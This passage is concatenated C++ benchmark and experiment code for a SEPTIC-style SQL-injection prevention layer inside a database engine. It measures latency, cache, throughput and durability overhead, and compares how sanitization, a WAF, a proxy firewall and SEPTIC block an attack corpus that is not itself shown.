  for (auto _ : state) {
    benchmark::DoNotOptimize(db.execute(session, kQuery));
  }
  ac.report(state);
}
BENCHMARK(BM_PipelineVanilla)->Arg(0)->Arg(1);

void BM_PipelineWithSeptic(benchmark::State& state) {
  engine::Database db;
  setup_tickets(db);
  if (state.range(0) == 0) db.set_digest_cache_budget(0);
  auto septic = std::make_shared<core::Septic>();
  septic->set_log_processed_queries(false);
  db.set_interceptor(septic);
  engine::Session session;
  septic->set_mode(core::Mode::kTraining);
  db.execute(session, kQuery);
  septic->set_mode(core::Mode::kPrevention);
  db.execute(session, kQuery);  // warm the cache when enabled
  AllocCounter ac;
  ac.start();
  for (auto _ : state) {
    benchmark::DoNotOptimize(db.execute(session, kQuery));
  }
  ac.report(state);
}
BENCHMARK(BM_PipelineWithSeptic)->Arg(0)->Arg(1);

// The cache's own lookup cost (the price a warm hit pays before replay).
void BM_DigestCacheLookup(benchmark::State& state) {
  engine::Database db;
  setup_tickets(db);
  engine::Session session;
  db.execute(session, kQuery);
  auto cache = db.digest_cache();
  std::string key = common::server_charset_convert(kQuery);
  for (auto _ : state) {
    benchmark::DoNotOptimize(cache->lookup(key));
  }
}
BENCHMARK(BM_DigestCacheLookup);

void BM_WireRoundTrip(benchmark::State& state) {
  engine::Database db;
  db.execute_admin(
      "CREATE TABLE w (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
  db.execute_admin("INSERT INTO w (v) VALUES ('x')");
  net::Server server(db, 0);
  server.start();
  net::Client client(server.port());
  for (auto _ : state) {
    benchmark::DoNotOptimize(client.query("SELECT v FROM w WHERE id = 1"));
  }
  server.stop();
}
BENCHMARK(BM_WireRoundTrip);

void BM_WirePreparedExec(benchmark::State& state) {
  engine::Database db;
  db.execute_admin(
      "CREATE TABLE w (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
  db.execute_admin("INSERT INTO w (v) VALUES ('x')");
  net::Server server(db, 0);
  server.start();
  net::Client client(server.port());
  uint64_t stmt = client.prepare("SELECT v FROM w WHERE id = ?");
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        client.execute(stmt, {sql::Value(int64_t{1})}));
  }
  server.stop();
}
BENCHMARK(BM_WirePreparedExec);

}  // namespace

// Experiment E4 — the demonstration itself as a measurement (paper Section
// IV phases A-E): the full attack corpus against every protection
// configuration, plus benign probes for false positives.
//
// Mechanisms compared:
//   sanitize   PHP sanitization functions only (phase A)
//   +waf       ModSecurity-lite in front (phase B)
//   +proxy     GreenSQL-style learning firewall between app and DBMS
//   +septic    SEPTIC in prevention mode inside the DBMS (phase D)
//
// Expected shape (paper phases A/B/D/E): sanitize blocks nothing of this
// corpus; the WAF blocks a strict subset; SEPTIC blocks all attacks with
// zero false positives.
#include <cstdio>
#include <memory>

#include "attacks/corpus.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

using namespace septic;

namespace {

enum class Mechanism { kSanitize, kWaf, kProxy, kSeptic };

[[maybe_unused]] const char* mechanism_name(Mechanism m) {
  switch (m) {
    case Mechanism::kSanitize: return "sanitize";
    case Mechanism::kWaf: return "+waf";
    case Mechanism::kProxy: return "+proxy";
    case Mechanism::kSeptic: return "+septic";
  }
  return "?";
}

struct Deployment {
  std::unique_ptr<engine::Database> db;
  std::unique_ptr<web::App> app;
  std::unique_ptr<web::WebStack> stack;
  std::shared_ptr<core::Septic> septic;
};

Deployment make(const std::string& app_name, Mechanism mech) {
  Deployment d;
  d.db = std::make_unique<engine::Database>();
  if (app_name == "tickets") {
    d.app = std::make_unique<web::apps::TicketsApp>();
  } else {
    d.app = std::make_unique<web::apps::WaspMonApp>();
  }
  d.app->install(*d.db);
  d.stack = std::make_unique<web::WebStack>(*d.app, *d.db);
  switch (mech) {
    case Mechanism::kSanitize:
      break;
    case Mechanism::kWaf:
      d.stack->config().waf_enabled = true;
      break;
    case Mechanism::kProxy: {
      d.stack->config().proxy_enabled = true;
      // Learn the workload, then protect.
      web::train_on_application(*d.stack);
      d.stack->proxy().set_mode(web::QueryFirewall::Mode::kProtect);
      break;
    }
    case Mechanism::kSeptic: {
      d.septic = std::make_shared<core::Septic>();
      d.db->set_interceptor(d.septic);
      d.septic->set_mode(core::Mode::kTraining);
      web::train_on_application(*d.stack);
      d.septic->set_mode(core::Mode::kPrevention);
      break;
    }
  }
  return d;
}

/// Returns the blocking layer ("" if the chain got through).
std::string run_chain(Deployment& d, const attacks::AttackCase& attack) {
  for (const auto& setup : attack.setup) {
    web::Response r = d.stack->handle(setup);
    if (r.blocked()) return r.blocked_by;
  }
  web::Response r = d.stack->handle(attack.attack);
  return r.blocked_by;
}

}  // namespace

int main() {
  auto corpus = attacks::all_attacks();
  const Mechanism mechanisms[] = {Mechanism::kSanitize, Mechanism::kWaf,
                                  Mechanism::kProxy, Mechanism::kSeptic};

  std::printf("# Detection matrix: demo phases A-E as a measurement\n\n");
  std::printf("%-4s %-22s %-10s %-10s %-10s %-10s\n", "id", "category",
              "sanitize", "+waf", "+proxy", "+septic");

  size_t blocked_count[4] = {0, 0, 0, 0};
  for (const auto& attack : corpus) {
    std::string outcome[4];
    for (size_t m = 0; m < 4; ++m) {
      Deployment d = make(attack.app, mechanisms[m]);
      std::string by = run_chain(d, attack);
      outcome[m] = by.empty() ? "MISS" : "block";
      if (!by.empty()) ++blocked_count[m];
    }
    std::printf("%-4s %-22s %-10s %-10s %-10s %-10s\n", attack.id.c_str(),
                attack.category.c_str(), outcome[0].c_str(),
                outcome[1].c_str(), outcome[2].c_str(), outcome[3].c_str());
  }

  std::printf("\n%-27s", "attacks blocked (of N):");
  for (size_t m = 0; m < 4; ++m) {
    std::printf(" %-10s", (std::to_string(blocked_count[m]) + "/" +
                           std::to_string(corpus.size()))
                              .c_str());
  }
  std::printf("\n");

  // False positives over the benign probes + recorded workloads.
  std::printf("\n%-4s %-22s %-10s %-10s %-10s %-10s\n", "", "false positives",
              "sanitize", "+waf", "+proxy", "+septic");
  for (const char* app : {"tickets", "waspmon"}) {
    size_t fp[4] = {0, 0, 0, 0};
    size_t total = 0;
    for (size_t m = 0; m < 4; ++m) {
      Deployment d = make(app, mechanisms[m]);
      size_t count = 0;
      for (const auto& probe : attacks::benign_probes(app)) {
        if (d.stack->handle(probe).blocked()) ++fp[m];
        ++count;
      }
      for (const auto& r : d.app->workload()) {
        if (d.stack->handle(r).blocked()) ++fp[m];
        ++count;
      }
      total = count;
    }
    std::printf("%-4s %-22s %-10zu %-10zu %-10zu %-10zu  (of %zu requests)\n",
                "", app, fp[0], fp[1], fp[2], fp[3], total);
  }

  std::printf(
      "\n# expected shape: sanitize 0/N; WAF blocks a strict subset "
      "(misses the semantic-mismatch and second-order cases); SEPTIC N/N "
      "with 0 false positives (paper phases A, B, D, E)\n");
  return 0;
}

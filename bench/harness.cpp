#include "harness.h"

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <mutex>
#include <thread>

#include "web/apps/addressbook.h"
#include "web/apps/refbase.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/apps/zerocms.h"
#include "web/trainer.h"

namespace septic::bench {

const char* septic_config_name(SepticConfig c) {
  switch (c) {
    case SepticConfig::kVanilla: return "vanilla";
    case SepticConfig::kNN: return "NN";
    case SepticConfig::kYN: return "YN";
    case SepticConfig::kNY: return "NY";
    case SepticConfig::kYY: return "YY";
  }
  return "?";
}

namespace {

/// Bulk-load `rows` synthetic rows into the app's dominant tables so scan
/// costs reflect a populated database.
void prepopulate(const std::string& app_name, engine::Database& db,
                 int rows) {
  if (rows <= 0) return;
  auto bulk = [&](const std::string& prefix,
                  const std::function<std::string(int)>& row_sql) {
    constexpr int kChunk = 200;
    for (int start = 0; start < rows; start += kChunk) {
      std::string stmt = prefix;
      int end = std::min(rows, start + kChunk);
      for (int i = start; i < end; ++i) {
        if (i != start) stmt += ", ";
        stmt += row_sql(i);
      }
      db.execute_admin(stmt);
    }
  };
  auto num = [](int i) { return std::to_string(i); };

  if (app_name == "addressbook") {
    bulk("INSERT INTO contacts (firstname, lastname, email, phone, address, "
         "group_id) VALUES ",
         [&](int i) {
           return "('fn" + num(i) + "', 'ln" + num(i) + "', 'e" + num(i) +
                  "@x.pt', '+351" + num(i) + "', 'city" + num(i % 50) +
                  "', " + num(1 + i % 3) + ")";
         });
  } else if (app_name == "refbase") {
    bulk("INSERT INTO refs (author, title, journal, year, doi) VALUES ",
         [&](int i) {
           return "('Author" + num(i) + "', 'Title " + num(i) + "', 'J" +
                  num(i % 20) + "', " + num(1990 + i % 30) + ", 'doi" +
                  num(i) + "')";
         });
  } else if (app_name == "zerocms") {
    bulk("INSERT INTO articles (author_id, title, body) VALUES ",
         [&](int i) {
           return "(1, 'Article " + num(i) + "', 'Body of article " + num(i) +
                  " with some web content.')";
         });
    bulk("INSERT INTO comments (article_id, author, body) VALUES ",
         [&](int i) {
           return "(" + num(1 + i % 100) + ", 'reader', 'comment " + num(i) +
                  "')";
         });
  } else if (app_name == "waspmon") {
    bulk("INSERT INTO readings (device_id, watts, ts) VALUES ", [&](int i) {
      return "(" + num(1 + i % 3) + ", " + num(50 + i % 900) +
             ".5, '2017-06-25 10:00:00')";
    });
  } else if (app_name == "tickets") {
    bulk("INSERT INTO tickets (reservID, creditCard, passenger, flight, "
         "seat) VALUES ",
         [&](int i) {
           return "('RS" + num(i) + "', " + num(1000 + i) + ", 'Pax " +
                  num(i) + "', 'LX" + num(i % 30) + "', '" + num(1 + i % 40) +
                  "A')";
         });
  }
}

}  // namespace

Deployment make_deployment(const std::string& app_name, SepticConfig config,
                           int prepopulate_rows) {
  Deployment d;
  d.db = std::make_unique<engine::Database>();
  if (app_name == "tickets") {
    d.app = std::make_unique<web::apps::TicketsApp>();
  } else if (app_name == "waspmon") {
    d.app = std::make_unique<web::apps::WaspMonApp>();
  } else if (app_name == "addressbook") {
    d.app = std::make_unique<web::apps::AddressBookApp>();
  } else if (app_name == "refbase") {
    d.app = std::make_unique<web::apps::RefbaseApp>();
  } else {
    d.app = std::make_unique<web::apps::ZeroCmsApp>();
  }
  d.app->install(*d.db);
  prepopulate(app_name, *d.db, prepopulate_rows);
  d.stack = std::make_unique<web::WebStack>(*d.app, *d.db);

  if (config != SepticConfig::kVanilla) {
    d.septic = std::make_shared<core::Septic>();
    d.septic->set_log_processed_queries(false);
    d.db->set_interceptor(d.septic);
    d.septic->set_mode(core::Mode::kTraining);
    web::train_on_application(*d.stack);
    d.septic->set_mode(core::Mode::kPrevention);
    d.septic->set_sqli_detection(config == SepticConfig::kYN ||
                                 config == SepticConfig::kYY);
    d.septic->set_stored_detection(config == SepticConfig::kNY ||
                                   config == SepticConfig::kYY);
  }
  return d;
}

LatencyStats run_workload(Deployment& deployment, int browsers, int loops) {
  const std::vector<web::Request> workload = deployment.app->workload();

  std::vector<std::vector<double>> per_thread(
      static_cast<size_t>(browsers));
  std::vector<size_t> per_thread_errors(static_cast<size_t>(browsers), 0);

  auto wall_start = std::chrono::steady_clock::now();
  std::vector<std::thread> threads;
  threads.reserve(static_cast<size_t>(browsers));
  for (int b = 0; b < browsers; ++b) {
    threads.emplace_back([&, b] {
      auto& samples = per_thread[static_cast<size_t>(b)];
      samples.reserve(workload.size() * static_cast<size_t>(loops));
      for (int loop = 0; loop < loops; ++loop) {
        for (const auto& request : workload) {
          auto t0 = std::chrono::steady_clock::now();
          web::Response r = deployment.stack->handle(request);
          auto t1 = std::chrono::steady_clock::now();
          samples.push_back(
              std::chrono::duration<double, std::micro>(t1 - t0).count());
          if (!r.ok()) ++per_thread_errors[static_cast<size_t>(b)];
        }
      }
    });
  }
  for (auto& t : threads) t.join();
  auto wall_end = std::chrono::steady_clock::now();

  std::vector<double> all;
  size_t errors = 0;
  for (size_t b = 0; b < per_thread.size(); ++b) {
    all.insert(all.end(), per_thread[b].begin(), per_thread[b].end());
    errors += per_thread_errors[b];
  }
  std::sort(all.begin(), all.end());

  LatencyStats stats;
  stats.requests = all.size();
  stats.errors = errors;
  stats.wall_seconds =
      std::chrono::duration<double>(wall_end - wall_start).count();
  if (all.empty()) return stats;
  double sum = 0;
  for (double v : all) sum += v;
  stats.mean_us = sum / static_cast<double>(all.size());
  size_t lo = all.size() / 20;            // trim 5% each side
  size_t hi = all.size() - lo;
  double tsum = 0;
  for (size_t i = lo; i < hi; ++i) tsum += all[i];
  stats.trimmed_mean_us = hi > lo ? tsum / static_cast<double>(hi - lo) : 0;
  auto pct = [&](double p) {
    size_t idx = static_cast<size_t>(p * static_cast<double>(all.size() - 1));
    return all[idx];
  };
  stats.p50_us = pct(0.50);
  stats.p95_us = pct(0.95);
  stats.p99_us = pct(0.99);
  stats.max_us = all.back();
  stats.throughput_rps =
      static_cast<double>(all.size()) / stats.wall_seconds;
  return stats;
}

double overhead_percent(const LatencyStats& baseline,
                        const LatencyStats& measured) {
  if (baseline.mean_us <= 0) return 0;
  return (measured.mean_us - baseline.mean_us) / baseline.mean_us * 100.0;
}

OverheadResult measure_overhead(const std::string& app_name,
                                SepticConfig config, int browsers, int loops,
                                int rounds) {
  Deployment base =
      make_deployment(app_name, SepticConfig::kVanilla, bench_rows());
  Deployment cfg = make_deployment(app_name, config, bench_rows());

  // One warm-up round each (populates caches, grows tables equally).
  run_workload(base, browsers, loops);
  run_workload(cfg, browsers, loops);

  OverheadResult result;
  std::vector<double> samples;
  samples.reserve(static_cast<size_t>(rounds));
  for (int r = 0; r < rounds; ++r) {
    // Workloads insert rows, so tables grow monotonically and whichever
    // deployment runs second in a pair sees slightly bigger tables.
    // Alternating the order each round cancels that bias.
    LatencyStats b, m;
    if (r % 2 == 0) {
      b = run_workload(base, browsers, loops);
      m = run_workload(cfg, browsers, loops);
    } else {
      m = run_workload(cfg, browsers, loops);
      b = run_workload(base, browsers, loops);
    }
    if (b.trimmed_mean_us > 0) {
      samples.push_back((m.trimmed_mean_us - b.trimmed_mean_us) /
                        b.trimmed_mean_us * 100.0);
    }
    result.baseline = b;
    result.measured = m;
  }
  std::sort(samples.begin(), samples.end());
  if (!samples.empty()) {
    result.overhead_pct = samples[samples.size() / 2];
  }
  return result;
}

namespace {
int env_int(const char* name, int fallback) {
  const char* v = std::getenv(name);
  if (v == nullptr || *v == '\0') return fallback;
  int out = std::atoi(v);
  return out > 0 ? out : fallback;
}
}  // namespace

int bench_browsers() { return env_int("SEPTIC_BENCH_BROWSERS", 20); }
int bench_loops() { return env_int("SEPTIC_BENCH_LOOPS", 30); }
int bench_rounds() { return env_int("SEPTIC_BENCH_ROUNDS", 7); }
int bench_rows() { return env_int("SEPTIC_BENCH_ROWS", 3000); }

}  // namespace septic::bench

// Fault-tolerance bench guard: the robustness layer must be (nearly) free
// on the hot path. Pins three costs:
//   - an un-armed failpoint site (one relaxed atomic load — the price every
//     instrumented hot path pays in test builds; zero when compiled out),
//   - the fail-policy try/except boundary around Septic::on_query
//     (non-throwing path),
//   - crash-safe QM store persistence (v2 serialize + CRC, salvage load)
//     vs the in-memory baseline, so the atomic-rename discipline's cost
//     stays visible and bounded.
#include <benchmark/benchmark.h>

#include <cstdio>
#include <memory>

#include "common/failpoint.h"
#include "common/hash.h"
#include "engine/database.h"
#include "septic/qm_store.h"
#include "septic/septic.h"
#include "sqlcore/item.h"
#include "sqlcore/parser.h"

namespace {

using namespace septic;

void BM_FailpointUnarmed(benchmark::State& state) {
  common::failpoints::disarm_all();
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        common::failpoints::should_fail("bench.never.armed"));
  }
}
BENCHMARK(BM_FailpointUnarmed);

void BM_FailpointArmedElsewhere(benchmark::State& state) {
  // Worst case for a cold site: SOME failpoint is armed (slow path taken,
  // map probed) but not this one.
  common::failpoints::arm("bench.other.site");
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        common::failpoints::should_fail("bench.never.armed"));
  }
  common::failpoints::disarm_all();
}
BENCHMARK(BM_FailpointArmedElsewhere);

void BM_Crc32PerRecord(benchmark::State& state) {
  std::string record(static_cast<size_t>(state.range(0)), 'q');
  for (auto _ : state) {
    benchmark::DoNotOptimize(common::crc32(record));
  }
  state.SetBytesProcessed(int64_t(state.iterations()) * state.range(0));
}
BENCHMARK(BM_Crc32PerRecord)->Arg(64)->Arg(1024);

void fill_store(core::QmStore& store, int n) {
  for (int i = 0; i < n; ++i) {
    std::string q = "SELECT a FROM t WHERE b = " + std::to_string(i) +
                    " AND c = 'k" + std::to_string(i) + "'";
    store.add("id" + std::to_string(i),
              core::make_query_model(
                  sql::build_item_stack(sql::parse(q).statement)));
  }
}

void BM_QmStoreSaveAtomic(benchmark::State& state) {
  core::QmStore store;
  fill_store(store, static_cast<int>(state.range(0)));
  const std::string path = "/tmp/septic_bench_store.qm";
  for (auto _ : state) {
    store.save_to_file(path);
  }
  std::remove(path.c_str());
  std::remove((path + ".tmp").c_str());
}
BENCHMARK(BM_QmStoreSaveAtomic)->Arg(100)->Arg(1000);

void BM_QmStoreSalvageLoad(benchmark::State& state) {
  core::QmStore store;
  fill_store(store, static_cast<int>(state.range(0)));
  std::string data = store.serialize_v2();
  core::QmStore target;
  for (auto _ : state) {
    benchmark::DoNotOptimize(target.deserialize_salvage(data));
  }
}
BENCHMARK(BM_QmStoreSalvageLoad)->Arg(100)->Arg(1000);

void BM_OnQueryWithFailPolicyBoundary(benchmark::State& state) {
  // Full pipeline through the try/except fail-policy boundary, prevention
  // mode, trained model — the common case whose latency the paper's Fig. 5
  // protects. Compare against micro_septic's BM_Pipeline numbers.
  engine::Database db;
  db.execute_admin("CREATE TABLE t (a INT PRIMARY KEY, b TEXT)");
  auto septic = std::make_shared<core::Septic>();
  septic->set_log_processed_queries(false);
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  db.execute_admin("SELECT b FROM t WHERE a = 1");
  septic->set_mode(core::Mode::kPrevention);
  engine::Session s("bench");
  for (auto _ : state) {
    benchmark::DoNotOptimize(db.execute(s, "SELECT b FROM t WHERE a = 7"));
  }
}
BENCHMARK(BM_OnQueryWithFailPolicyBoundary);

}  // namespace

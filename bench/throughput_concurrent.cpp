// Experiment PR5 — multi-client throughput over the real network stack,
// now swept across the query-digest cache dimension.
//
// A closed-loop driver: N client threads each hold one connection to a
// real net::Server (thread-pool model) and issue a fixed number of
// point-SELECTs back-to-back, so offered load tracks service rate and the
// measured numbers are contention, not queueing artifacts. Three SEPTIC
// configurations are swept at each client count:
//   off         no interceptor installed (engine + net floor)
//   training    SEPTIC learning every query shape (store writes)
//   prevention  SEPTIC validating against trained models
// ...each in two cache states:
//   cold        digest cache disabled (budget 0): every query runs the
//               full conversion->lex->parse->hook pipeline (the PR4 shape)
//   warm        default cache budget, with every workload key replayed
//               off-clock first, so the measured runs are byte-exact hits
// The headline ratio is warm prevention p50 / warm off p50 at one client:
// the digest cache is meant to collapse SEPTIC's per-query overhead for
// repeating statements to (near) zero.
//
// Output: human-readable table on stdout, machine-readable BENCH_PR5.json
// (path overridable via SEPTIC_BENCH_JSON) for scripts/bench.sh, schema
// configs.{off|training|prevention}.{cold|warm}.{clients}.
//
// Scale knobs: SEPTIC_BENCH_NET_QUERIES (per client, default 300),
// SEPTIC_BENCH_NET_CLIENTS (comma list, default "1,2,4,8,16").
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "engine/database.h"
#include "net/client.h"
#include "net/server.h"
#include "septic/septic.h"

namespace {

using Clock = std::chrono::steady_clock;

int env_int(const char* name, int fallback) {
  const char* v = std::getenv(name);
  if (!v || !*v) return fallback;
  return std::atoi(v);
}

std::vector<int> client_counts() {
  const char* v = std::getenv("SEPTIC_BENCH_NET_CLIENTS");
  std::string spec = v && *v ? v : "1,2,4,8,16";
  std::vector<int> out;
  size_t pos = 0;
  while (pos < spec.size()) {
    size_t comma = spec.find(',', pos);
    if (comma == std::string::npos) comma = spec.size();
    int n = std::atoi(spec.substr(pos, comma - pos).c_str());
    if (n > 0) out.push_back(n);
    pos = comma + 1;
  }
  return out;
}

enum class SepticMode { kOff, kTraining, kPrevention };

const char* mode_name(SepticMode m) {
  switch (m) {
    case SepticMode::kOff:
      return "off";
    case SepticMode::kTraining:
      return "training";
    case SepticMode::kPrevention:
      return "prevention";
  }
  return "?";
}

constexpr int kRows = 256;

struct RunResult {
  double qps = 0;
  double p50_us = 0;
  double p99_us = 0;
  size_t queries = 0;
  size_t errors = 0;
  uint64_t overflow_workers = 0;
  uint64_t cache_hits = 0;
  uint64_t cache_misses = 0;
};

double percentile(std::vector<double>& sorted, double p) {
  if (sorted.empty()) return 0;
  size_t idx = static_cast<size_t>(p * static_cast<double>(sorted.size() - 1));
  return sorted[idx];
}

RunResult run_one(SepticMode mode, bool warm_cache, int clients,
                  int queries_per_client) {
  septic::engine::Database db;
  if (!warm_cache) db.set_digest_cache_budget(0);
  db.execute_admin(
      "CREATE TABLE bench (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
  for (int i = 0; i < kRows; i += 32) {
    std::string sql = "INSERT INTO bench (v) VALUES ";
    for (int j = 0; j < 32; ++j) {
      if (j) sql += ", ";
      sql += "('row" + std::to_string(i + j) + "')";
    }
    db.execute_admin(sql);
  }

  std::shared_ptr<septic::core::Septic> septic;
  if (mode != SepticMode::kOff) {
    septic = std::make_shared<septic::core::Septic>();
    septic->set_log_processed_queries(false);  // measure the path, not the log
    septic->set_mode(septic::core::Mode::kTraining);
    db.set_interceptor(septic);
    if (mode == SepticMode::kPrevention) {
      // Train the one workload shape, then flip: the measured runs must
      // take the model-validation path, never the learning path.
      septic::engine::Session trainer("bench-trainer");
      db.execute(trainer, "SELECT id, v FROM bench WHERE id = 1");
      septic->set_mode(septic::core::Mode::kPrevention);
    }
  }

  if (warm_cache) {
    // Replay every workload key off-clock so the measured runs are all
    // byte-exact, generation-current hits. Two passes: in training mode
    // the first occurrence of a shape bumps the model generation *after*
    // its own entry was tagged, so that one entry re-caches on pass two.
    septic::engine::Session warm("bench-warm");
    for (int pass = 0; pass < 2; ++pass) {
      for (int key = 1; key <= kRows; ++key) {
        db.execute(warm, "SELECT id, v FROM bench WHERE id = " +
                             std::to_string(key));
      }
    }
  }

  septic::net::ServerOptions opts;
  opts.max_connections = 0;  // the driver controls concurrency
  auto server = std::make_unique<septic::net::Server>(db, 0, opts);
  server->start();
  uint16_t port = server->port();

  std::vector<std::vector<double>> latencies(
      static_cast<size_t>(clients));
  std::vector<size_t> errors(static_cast<size_t>(clients), 0);
  std::vector<std::thread> threads;
  threads.reserve(static_cast<size_t>(clients));
  auto t0 = Clock::now();
  for (int c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      septic::net::Client client(port);
      auto& lat = latencies[static_cast<size_t>(c)];
      lat.reserve(static_cast<size_t>(queries_per_client));
      // Warm the connection + per-thread allocator off the clock.
      for (int w = 0; w < 3; ++w) {
        client.query("SELECT id, v FROM bench WHERE id = 1");
      }
      for (int i = 0; i < queries_per_client; ++i) {
        int key = (c * 131 + i) % kRows + 1;
        auto q0 = Clock::now();
        try {
          client.query("SELECT id, v FROM bench WHERE id = " +
                       std::to_string(key));
        } catch (const std::exception&) {
          ++errors[static_cast<size_t>(c)];
        }
        lat.push_back(std::chrono::duration<double, std::micro>(
                          Clock::now() - q0)
                          .count());
      }
      client.quit();
    });
  }
  for (auto& t : threads) t.join();
  double wall = std::chrono::duration<double>(Clock::now() - t0).count();

  RunResult r;
  std::vector<double> all;
  for (auto& v : latencies) all.insert(all.end(), v.begin(), v.end());
  for (size_t e : errors) r.errors += e;
  std::sort(all.begin(), all.end());
  r.queries = all.size();
  r.qps = wall > 0 ? static_cast<double>(all.size()) / wall : 0;
  r.p50_us = percentile(all, 0.50);
  r.p99_us = percentile(all, 0.99);
  r.overflow_workers = server->overflow_workers_spawned();
  septic::engine::DigestCacheStats cs = db.digest_cache_stats();
  r.cache_hits = cs.hits;
  r.cache_misses = cs.misses;
  server->stop();
  return r;
}

}  // namespace

int main() {
  const int per_client = env_int("SEPTIC_BENCH_NET_QUERIES", 300);
  const std::vector<int> counts = client_counts();
  const char* json_path = std::getenv("SEPTIC_BENCH_JSON");
  if (!json_path || !*json_path) json_path = "BENCH_PR5.json";

  std::printf("# PR5: multi-client closed-loop throughput over the net "
              "stack, cold vs warm digest cache\n");
  std::printf("# queries/client=%d worker_threads=%zu hw_threads=%u\n",
              per_client, septic::net::ServerOptions{}.worker_threads,
              std::thread::hardware_concurrency());
  std::printf("%-12s %6s %8s %10s %12s %12s %8s %10s\n", "config", "cache",
              "clients", "qps", "p50_us", "p99_us", "errors", "hit_rate");

  const SepticMode modes[] = {SepticMode::kOff, SepticMode::kTraining,
                              SepticMode::kPrevention};
  std::string json = "{\n  \"bench\": \"throughput_concurrent\",\n";
  json += "  \"queries_per_client\": " + std::to_string(per_client) + ",\n";
  json += "  \"worker_threads\": " +
          std::to_string(septic::net::ServerOptions{}.worker_threads) + ",\n";
  json += "  \"hardware_threads\": " +
          std::to_string(std::thread::hardware_concurrency()) + ",\n";
  json += "  \"configs\": {\n";
  for (size_t m = 0; m < 3; ++m) {
    json += std::string("    \"") + mode_name(modes[m]) + "\": {\n";
    for (int warm = 0; warm < 2; ++warm) {
      json += std::string("      \"") + (warm ? "warm" : "cold") + "\": {\n";
      for (size_t i = 0; i < counts.size(); ++i) {
        int n = counts[i];
        RunResult r = run_one(modes[m], warm != 0, n, per_client);
        double hit_rate =
            r.cache_hits + r.cache_misses
                ? static_cast<double>(r.cache_hits) /
                      static_cast<double>(r.cache_hits + r.cache_misses)
                : 0.0;
        std::printf("%-12s %6s %8d %10.0f %12.1f %12.1f %8zu %9.1f%%\n",
                    mode_name(modes[m]), warm ? "warm" : "cold", n, r.qps,
                    r.p50_us, r.p99_us, r.errors, 100.0 * hit_rate);
        std::fflush(stdout);
        char buf[320];
        std::snprintf(buf, sizeof(buf),
                      "        \"%d\": {\"qps\": %.1f, \"p50_us\": %.1f, "
                      "\"p99_us\": %.1f, \"queries\": %zu, "
                      "\"errors\": %zu, \"overflow_workers\": %llu, "
                      "\"cache_hits\": %llu, \"cache_misses\": %llu}%s\n",
                      n, r.qps, r.p50_us, r.p99_us, r.queries, r.errors,
                      static_cast<unsigned long long>(r.overflow_workers),
                      static_cast<unsigned long long>(r.cache_hits),
                      static_cast<unsigned long long>(r.cache_misses),
                      i + 1 < counts.size() ? "," : "");
        json += buf;
      }
      json += warm == 0 ? "      },\n" : "      }\n";
    }
    json += m + 1 < 3 ? "    },\n" : "    }\n";
  }
  json += "  }\n}\n";

  if (FILE* f = std::fopen(json_path, "w")) {
    std::fputs(json.c_str(), f);
    std::fclose(f);
    std::printf("\n# wrote %s\n", json_path);
  } else {
    std::fprintf(stderr, "cannot write %s\n", json_path);
    return 1;
  }
  return 0;
}

// Experiment PR6/PR7 — multi-client throughput over the real network
// stack: the PR6 workload-mix sweep, plus the PR7 durability sweep.
//
// A closed-loop driver: N client threads each hold one connection to a
// real net::Server (thread-pool model) and issue a fixed number of
// statements back-to-back, so offered load tracks service rate and the
// measured numbers are contention, not queueing artifacts. Three SEPTIC
// configurations are swept at each client count:
//   off         no interceptor installed (engine + net floor)
//   training    SEPTIC learning every query shape (store writes)
//   prevention  SEPTIC validating against trained models
// ...each under two workloads:
//   point       100% point SELECTs — the PR5 shape, kept for continuity
//   readheavy   90% point SELECTs / 10% single-row UPDATEs — the MVCC
//               target workload: before PR6 every statement serialized on
//               one engine lock, so a 10% write admixture convoyed every
//               reader behind it; under MVCC snapshot reads never take
//               the commit lock, so read tail latency should hold as
//               clients (and the writers hiding among them) scale.
// The digest cache runs warm (default budget, SELECT keys replayed
// off-clock) in every cell: the cold/warm axis was PR5's experiment and
// its conclusions stand; PR6 measures lock structure, not parse cost.
//
// Read and write latencies are recorded separately — the headline is
// readheavy read-p99 at 8..16 clients vs the pre-MVCC baseline, which
// scripts/bench.sh measures for real by building this same file in a
// detached worktree of the last pre-MVCC commit.
//
// PR7 adds a durability sweep (compiled only when the WAL subsystem is
// present, so the pre-WAL baseline worktree builds this same file): a
// 100% single-row INSERT workload — every statement is one autocommit
// COMMIT — swept across durability modes at each client count:
//   off      volatile engine, no WAL (the pre-PR7 write path)
//   relaxed  WAL appended per commit, fsync deferred to checkpoint/close
//   full     COMMIT acks only after its group-commit fsync
// The headline is commits-per-fsync under full durability: one client
// pays one fsync per COMMIT; concurrent committers pile onto the leader's
// fsync, so the ratio should rise with client count — that batching is
// what keeps full-durability p99 in the same decade as relaxed.
//
// Output: human-readable table on stdout, machine-readable BENCH_PR7.json
// (path overridable via SEPTIC_BENCH_JSON) for scripts/bench.sh, schema
// configs.{off|training|prevention}.{point|readheavy}.{clients} plus
// durability.{off|relaxed|full}.{clients}.
//
// Scale knobs: SEPTIC_BENCH_NET_QUERIES (per client, default 300),
// SEPTIC_BENCH_NET_CLIENTS (comma list, default "1,2,4,8,16"),
// SEPTIC_BENCH_DUR_QUERIES (inserts per client in the durability sweep,
// default 200).
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "engine/database.h"
#include "net/client.h"
#include "net/server.h"
#include "septic/septic.h"

// The durability sweep needs the WAL subsystem; the pre-PR7 baseline
// worktree compiles this same file without it (scripts/bench.sh drops the
// bench source into a checkout of the pre-change commit).
#if __has_include("storage/wal/durable.h")
#define SEPTIC_BENCH_HAS_DURABILITY 1
#include <filesystem>
#include <unistd.h>

#include "storage/wal/durable.h"
#endif

namespace {

using Clock = std::chrono::steady_clock;

int env_int(const char* name, int fallback) {
  const char* v = std::getenv(name);
  if (!v || !*v) return fallback;
